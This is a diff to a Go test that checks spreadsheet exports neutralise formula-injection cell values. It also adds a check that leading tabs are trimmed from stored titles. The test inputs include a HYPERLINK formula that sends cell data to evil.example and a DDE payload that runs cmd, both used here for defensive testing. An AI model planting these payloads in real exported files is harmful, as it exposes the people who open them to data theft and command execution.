@@ -81,15 +81,25 @@ func TestExportCellsAreNeutralised(t *testing.T) {
 	testdb.Each(t, func(t *testing.T, b testdb.Backend) {
 		a := newAPI(t, b, false)
 		p := a.people()
-		titles := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "Plain =title"}
+		titles := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "Plain =title"}
 		for _, title := range titles {
 			a.query(&struct{}{}, `mutation($t: String!) { createPilot(input: {title: $t}) { id } }`, map[string]any{"t": title}, p.header("member")...)
 		}
+		// A leading tab or CR never reaches storage (text inputs are
+		// trimmed of invisible characters); the cell rule for them is
+		// tested in internal/export.
+		var tabbed struct{ CreatePilot struct{ Title string } }
+		a.query(&tabbed, `mutation { createPilot(input: {title: "\tTabbed"}) { title } }`, nil, p.header("member")...)
+		if tabbed.CreatePilot.Title != "Tabbed" {
+			t.Errorf("title \"\\tTabbed\" stored as %q, want it trimmed to \"Tabbed\"", tabbed.CreatePilot.Title)
+		}
+		titles = append(titles, "Tabbed")
 		want := map[string]string{}
 		for _, title := range titles {
 			want[title] = "'" + title
 		}
 		want["Plain =title"] = "Plain =title"
+		want["Tabbed"] = "Tabbed"
 		check := func(name string, records [][]string, column int) {
 			found := 0
 			for _, r := range records {
